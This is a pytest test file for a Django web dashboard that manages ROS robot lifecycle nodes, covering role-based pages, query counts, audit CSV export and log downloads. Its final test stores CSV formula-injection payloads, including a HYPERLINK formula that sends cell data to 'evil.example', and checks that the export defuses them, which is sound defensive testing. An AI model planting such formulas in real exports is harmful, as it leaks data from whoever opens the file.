"""Pages without ROS: they render for each role, stay at a fixed number of queries however
many nodes there are, filter and export the audit log, and carry a proxy's sub-path."""
import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from lifecycle_site.audit.models import TransitionRecord
from lifecycle_site.fleet.models import Gateway, LogRecord, ManagedNode, Robot
from lifecycle_site.gateway_link import gateways
from ros_gateway.shared import state_machine as sm
from tests import stack
from tests.conftest import client_of


@pytest.fixture
def fleet(db):
    robots = [Robot.objects.create(name=f"page-agv-{i}", domain_id=60 + i) for i in range(4)]
    nodes = ManagedNode.objects.bulk_create(
        [
            ManagedNode(robot=robots[i % 4], name=f"/node_{i:03d}", key=f"page-agv-{i % 4}.node_{i:03d}",
                        alive=i % 7 != 0, state_id=sm.ACTIVE if i % 2 else sm.INACTIVE,
                        state_label="active" if i % 2 else "inactive", last_seen=timezone.now())
            for i in range(200)
        ]
    )
    return robots, nodes


def test_fleet_overview_renders_200_nodes_in_a_fixed_number_of_queries(viewer_client, fleet,
                                                                        django_assert_max_num_queries):
    # Session, user, 2 permission reads, gateways, robots, nodes, runs, the alerts badge, and
    # the "needs attention" strip: nodes with their last record's outcome, firing alerts,
    # diagnostic statuses in ERROR or stale.
    with django_assert_max_num_queries(12):
        response = viewer_client.get("/")
    assert response.status_code == 200
    page = response.content.decode()
    assert page.count('class="node-row') == 200
    assert 'id="node-page-agv-1__node_001"' in page  # selector-safe ids for live swaps
    assert "ws/fleet/" in page


def test_viewer_sees_no_transition_buttons_operator_does(viewer_client, operator_client, fleet):
    assert "hx-post" not in viewer_client.get("/").content.decode()
    assert 'hx-post="/nodes/page-agv-1.node_001/transition"' in operator_client.get("/").content.decode()


def test_node_page_shows_state_graph_and_history(operator_client, fleet, django_assert_max_num_queries):
    node = fleet[1][1]
    TransitionRecord.objects.create(node=node, robot=node.robot, robot_name=node.robot.name, node_name=node.name,
                                    transition_id=3, transition_label="activate", outcome="succeeded",
                                    source="api", requested_at=timezone.now())
    with django_assert_max_num_queries(10):
        response = operator_client.get(f"/nodes/{node.key}/")
    page = response.content.decode()
    assert response.status_code == 200
    assert "<svg" in page and "▶ active" in page
    assert ">deactivate</button>" in page and ">activate</button>" not in page
    assert "activate" in page and "succeeded" in page


def test_unknown_node_page_is_404(viewer_client, db):
    assert viewer_client.get("/nodes/nope.nope/").status_code == 404


def test_pages_need_a_login_and_a_role(db):
    assert Client().get("/").status_code == 302
    assert Client().get("/audit/").status_code == 302
    nobody = client_of("no-role-nina", None)
    response = nobody.get("/")
    assert response.status_code == 403 and b"no role yet" in response.content


def test_dashboard_transition_without_gateway_says_so(operator_client, fleet):
    node = fleet[1][1]
    response = operator_client.post(f"/nodes/{node.key}/transition", {"transition": "deactivate"})
    assert b"Gateway offline" in response.content
    assert TransitionRecord.objects.get(node=node).source == "dashboard"


def test_watch_by_name_pins_a_waiting_node(operator_client, fleet):
    robot = fleet[0][0]
    operator_client.post(f"/robots/{robot.name}/watch", {"name": "arm_controller"})
    node = ManagedNode.objects.get(robot=robot, name="/arm_controller")
    assert not node.alive and node.first_seen is None
    assert "waiting" in operator_client.get("/").content.decode()
    operator_client.post(f"/robots/{robot.name}/watch", {"name": "bad name!"})
    assert not ManagedNode.objects.filter(name__contains="bad").exists()


def test_watch_answers_in_the_page_and_a_name_never_seen_can_be_unwatched(operator_client, fleet):
    robot = fleet[0][0]
    url = f"/robots/{robot.name}/watch"
    answer = operator_client.post(url, {"name": "/arm_controller"}, HTTP_HX_REQUEST="true").content.decode()
    assert "Watching /arm_controller" in answer and "HX-Refresh" not in answer
    assert f'hx-swap-oob="beforeend:#robot-{robot.name}-nodes"' in answer and "waiting" in answer
    assert "unwatch" in answer  # the new row offers to drop the name again
    answer = operator_client.post(url, {"name": "/arm_controller", "action": "unwatch"},
                                  HTTP_HX_REQUEST="true").content.decode()
    assert "No longer watching /arm_controller" in answer and 'hx-swap-oob="delete"' in answer
    assert not ManagedNode.objects.filter(robot=robot, name="/arm_controller").exists()
    seen = fleet[1][0]  # seen running once: its history stays, it is removed in the admin
    answer = operator_client.post(url, {"name": seen.name, "action": "unwatch"}, HTTP_HX_REQUEST="true")
    assert "admin" in answer.content.decode() and ManagedNode.objects.filter(pk=seen.pk).exists()


def test_whole_robot_runs_leave_out_names_never_seen(fleet):
    from lifecycle_site.operations.runs import tiers

    robot = fleet[0][0]
    ManagedNode.objects.create(robot=robot, name="/not_started", key=f"{robot.name}.not_started")
    assert "/not_started" not in [name for tier in tiers(robot, []) for name in tier]
    assert tiers(robot, ["/not_started"]) == [["/not_started"]]  # named: reported as not running


def test_pages_show_the_open_and_recent_runs_of_what_they_show(operator_client, fleet):
    from lifecycle_site.fleet.models import GroupRun

    node, other = fleet[1][1], fleet[1][5]
    assert node.robot_id == other.robot_id
    GroupRun.objects.create(id="a" * 32, robot=node.robot, operation="recover", only_nodes=[node.name],
                            status="succeeded", policy="stop", results=[{"node": node.name, "outcome": "succeeded"}])
    GroupRun.objects.create(id="b" * 32, robot=node.robot, operation="restart", only_nodes=[other.name],
                            status="running")
    fleet_page = operator_client.get("/").content.decode()
    assert f'id="run-{"a" * 32}"' in fleet_page and f'id="run-{"b" * 32}"' in fleet_page
    assert "automatic recovery" in fleet_page  # who started it (a run of one node has no policy to word)
    node_page = operator_client.get(f"/nodes/{node.key}/").content.decode()
    assert f'id="run-{"a" * 32}"' in node_page and f'id="run-{"b" * 32}"' not in node_page


def test_restart_is_not_offered_to_a_finalized_node(operator_client, fleet):
    node = fleet[1][1]
    ManagedNode.objects.filter(pk=node.pk).update(alive=True, state_id=sm.FINALIZED, state_label="finalized")
    page = operator_client.get(f"/nodes/{node.key}/").content.decode()
    assert "is finalized: a lifecycle restart cannot bring it back" in page
    refused = operator_client.post(f"/nodes/{node.key}/restart", HTTP_HX_REQUEST="true").content.decode()
    assert "is finalized" in refused
    # No gateway has reported here: the rows say so, and offer no time they were known at.
    fleet_page = operator_client.get("/").content.decode()
    assert "has never reported" in fleet_page and "running" not in fleet_page
    assert 'datetime="None"' not in fleet_page and "last known <time" not in fleet_page
    assert "states never read from it and no command can be sent" in fleet_page  # the banner
    ManagedNode.objects.filter(pk=node.pk).update(state_id=sm.ACTIVE, state_label="active")
    node_page = operator_client.get(f"/nodes/{node.key}/").content.decode()
    assert f"Not read yet: the gateway {node.robot.gateway.name} is offline" in node_page


def test_rows_of_a_silent_gateway_show_when_their_states_were_last_known(operator_client, fleet):
    node = fleet[1][1]
    beat = timezone.now() - timedelta(minutes=3)
    Gateway.objects.filter(pk=node.robot.gateway_id).update(last_beat=beat)
    gateways.forget()  # the site keeps what it read of the gateways for a second
    fleet_page = operator_client.get("/").content.decode()
    assert f'last known <time datetime="{beat.isoformat()}">' in fleet_page
    assert f'<span data-age="{beat.isoformat()}">3 min ago</span>): gateway {node.robot.gateway.name} is offline' \
        in fleet_page
    assert "has never reported" not in fleet_page
    # The node's own page says the same beside its state.
    ManagedNode.objects.filter(pk=node.pk).update(alive=True, state_id=sm.ACTIVE, state_label="active")
    node_page = operator_client.get(f"/nodes/{node.key}/").content.decode()
    assert f'Last known state, as of <time datetime="{beat.isoformat()}">' in node_page
    assert f'(<span data-age="{beat.isoformat()}">3 min ago</span>): the gateway {node.robot.gateway.name} is ' \
           "offline" in node_page


def test_a_transition_under_way_counts_its_time_from_when_the_node_entered_it(operator_client, fleet, redis_server):
    node = fleet[1][1]
    stack.write_beat(node.robot.gateway.name)  # online
    entered = timezone.now() - timedelta(seconds=42)
    ManagedNode.objects.filter(pk=node.pk).update(alive=True, state_id=sm.CONFIGURING, state_label="configuring",
                                                  state_changed=entered)
    page = operator_client.get(f"/nodes/{node.key}/").content.decode()
    # Opened during the transition: the page says how long it has run, not "0 s".
    assert f'Transition in progress (configuring) for <span data-elapsed-from="{entered.isoformat()}">42 s</span>' \
        in page or f'data-elapsed-from="{entered.isoformat()}">43 s</span>' in page
    assert "No transition is possible" not in page and "<button" not in page.split('aria-label="Valid transitions"')[1]\
        .split("</div>")[0]


def test_audit_history_filters_pages_and_exports_csv(viewer_client, fleet):
    node = fleet[1][3]
    now = timezone.now()
    for i in range(60):
        TransitionRecord.objects.create(node=node, robot=node.robot, robot_name=node.robot.name,
                                        node_name=node.name, transition_label="configure",
                                        outcome="failed" if i % 3 == 0 else "succeeded",
                                        source="dashboard", requested_by_name="olga", requested_at=now)
    page = viewer_client.get("/audit/?outcome=failed").content.decode()
    assert "20 records" in page
    assert "page 1 of 2" in viewer_client.get("/audit/").content.decode()
    rows = list(csv.reader(io.StringIO(viewer_client.get("/audit.csv?outcome=failed&user=olga").content.decode())))
    assert rows[0][:4] == ["requested_at", "completed_at", "robot", "node"] and len(rows) == 21
    reversed_range = viewer_client.get("/audit/?since=2026-01-02T00:00&until=2026-01-01T00:00")
    assert "must be before" in reversed_range.content.decode()


def test_log_console_and_download(viewer_client, fleet):
    node = fleet[1][5]
    for level, text in ((20, "scan ok"), (40, "scan broken")):
        LogRecord.objects.create(robot=node.robot, node=node, logger=node.name.strip("/"), stamp=timezone.now(),
                                 level=level, message=text)
    page = viewer_client.get(f"/logs/node/{node.key}/").content.decode()
    assert "scan broken" in page and "ws/logs/node/" in page
    text = viewer_client.get(f"/logs/node/{node.key}/download?level=ERROR").content.decode()
    assert "scan broken" in text and "scan ok" not in text
    assert viewer_client.get(f"/logs/robot/{node.robot.name}/download").status_code == 200
    assert viewer_client.get("/logs/robot/nobody/").status_code == 404
    assert viewer_client.get(f"/logs/other/{node.robot.name}/").status_code == 404


def test_forwarded_prefix_goes_into_every_link(viewer_client, fleet, settings):
    settings.LIFECYCLE_TRUST_FORWARDED_PREFIX = True
    page = viewer_client.get("/", HTTP_X_FORWARDED_PREFIX="/lifecycle").content.decode()
    assert 'href="/lifecycle/static/css/site.css' in page
    assert 'ws-connect="/lifecycle/ws/fleet/"' in page
    assert 'href="/lifecycle/nodes/page-agv-0.node_000/"' in page
    assert 'href="/static/css/site.css' in viewer_client.get("/").content.decode()  # not leaked
    settings.LIFECYCLE_TRUST_FORWARDED_PREFIX = False
    assert "/lifecycle/" not in viewer_client.get("/", HTTP_X_FORWARDED_PREFIX="/lifecycle").content.decode()


def test_fixed_prefix_keeps_the_login_redirect_under_it(db, settings):
    settings.URL_PREFIX = "/edge/lifecycle"
    response = Client().get("/")
    assert response["Location"] == "/edge/lifecycle/login/?next=/edge/lifecycle/"


def test_parameter_changes_are_in_the_audit_history_and_csv(viewer_client, fleet):
    from lifecycle_site.audit.models import ParameterRecord

    node = fleet[1][2]
    ParameterRecord.objects.create(node=node, robot_name=node.robot.name, node_name=node.name, name="scale_linear",
                                   old_value=0.5, new_value=0.8, outcome="succeeded", source="external",
                                   at=timezone.now())
    page = viewer_client.get("/audit/?kind=parameters&source=external").content.decode()
    assert "scale_linear" in page and "0.5" in page and "0.8" in page
    rows = list(csv.reader(io.StringIO(viewer_client.get("/audit.csv?kind=parameters").content.decode())))
    assert rows[0][3] == "parameter" and rows[1][3:6] == ["scale_linear", "0.5", "0.8"]


def test_csv_cells_cannot_start_a_spreadsheet_formula(viewer_client, fleet):
    from lifecycle_site.audit.models import ParameterRecord

    node = fleet[1][2]
    for name, new in (('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)"), ("+cmd", -0.5)):
        ParameterRecord.objects.create(node=node, robot_name=node.robot.name, node_name=node.name, name=name,
                                       old_value=1, new_value=new, outcome="succeeded", source="external",
                                       at=timezone.now(), reason="-2+3 or \tTAB")
    rows = list(csv.reader(io.StringIO(viewer_client.get("/audit.csv?kind=parameters").content.decode())))
    cells = {row[3]: row for row in rows[1:]}
    assert set(cells) == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd"}
    assert cells["'+cmd"][5] == "-0.5"  # a plain number stays a number
    assert all(row[9] == "'-2+3 or \tTAB" for row in rows[1:])
    assert cells["'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'][5] == '"@SUM(1+1)"'  # JSON text: quoted
